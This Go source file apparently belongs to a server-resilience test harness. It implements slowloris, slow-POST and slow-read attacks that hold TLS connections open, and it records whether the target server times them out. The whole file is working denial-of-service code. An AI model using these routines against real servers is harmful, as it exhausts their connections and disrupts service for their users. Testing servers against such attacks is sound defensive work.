package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/http"
	"net/netip"
	"time"
)

// The slow attacks hold connections open at the least cost to the attacker, over
// HTTP/1.1 (Go's HTTP/2 server has the same timeouts; HTTP/1.1 spends a goroutine and
// a socket per connection, the most a slow client can take).

// slowHeader is what slowloris trickles, one byte per interval, after a request line:
// a header section that grows forever.
const slowHeader = "X-Slow: 1\r\n"

// slowloris sends a request line at once and then its header section one byte per
// interval: the server must end it at its header timeout.
func slowloris(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	c, err := dialTLS(ctx, t, src, "http/1.1", 0)
	if err != nil {
		return err
	}
	return trickle(ctx, t, c, rec, "GET / HTTP/1.1\r\nHost: attack.test\r\n", slowHeader)
}

// slowPostLength is the body slow POST announces.
const slowPostLength = "10000000"

// slowPost sends a POST's header section at once and its body one byte per interval:
// the server must answer 408 once its body read timeout passes without progress.
func slowPost(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	c, err := dialTLS(ctx, t, src, "http/1.1", 0)
	if err != nil {
		return err
	}
	return trickle(ctx, t, c, rec, "POST / HTTP/1.1\r\nHost: attack.test\r\nContent-Length: "+slowPostLength+"\r\n\r\n", "x")
}

// trickle writes head, then one byte of tail (cycling) per interval, until the server
// answers or closes the connection, or ctx ends. An answer's status is recorded; the
// connection's life is counted from the first byte.
func trickle(ctx context.Context, t *Target, c *tls.Conn, rec *recorder, head, tail string) error {
	done := rec.opened()
	defer done()
	start := time.Now()
	answered := make(chan struct{})
	go func() {
		defer close(answered)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err == nil {
			rec.response(resp.StatusCode)
		}
	}()
	defer func() {
		c.Close()
		<-answered
		rec.ended(ctx, time.Since(start))
	}()
	if _, err := io.WriteString(c, head); err != nil {
		return nil
	}
	rec.sent.Add(int64(len(head)))
	tick := time.NewTicker(t.Interval)
	defer tick.Stop()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			return nil
		case <-answered:
			return nil
		case <-tick.C:
		}
		if _, err := c.Write([]byte{tail[i%len(tail)]}); err != nil {
			return nil
		}
		rec.sent.Add(1)
	}
}

// slowRead asks for 64 MB and reads it one KiB per interval through a 4 KiB receive
// buffer: the server's writes stall, and it must close the connection once its write
// timeout passes without progress.
func slowRead(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
	c, err := dialTLS(ctx, t, src, "http/1.1", 4096)
	if err != nil {
		return err
	}
	done := rec.opened()
	defer done()
	start := time.Now()
	defer func() {
		c.Close()
		rec.ended(ctx, time.Since(start))
	}()
	if _, err := io.WriteString(c, "GET /bytes?n=67108864 HTTP/1.1\r\nHost: attack.test\r\n\r\n"); err != nil {
		return nil
	}
	br := bufio.NewReaderSize(c, 1024)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		return nil
	}
	rec.response(resp.StatusCode)
	buf := make([]byte, 1024)
	tick := time.NewTicker(t.Interval)
	defer tick.Stop()
	raw, _ := c.NetConn().(*net.TCPConn)
	for {
		n, err := io.ReadFull(resp.Body, buf)
		rec.sent.Add(int64(n)) // bytes the attacker took: its "requests"
		if err != nil || raw != nil && peerGone(raw) {
			return nil
		}
		select {
		case <-ctx.Done():
			return nil
		case <-tick.C:
		}
	}
}
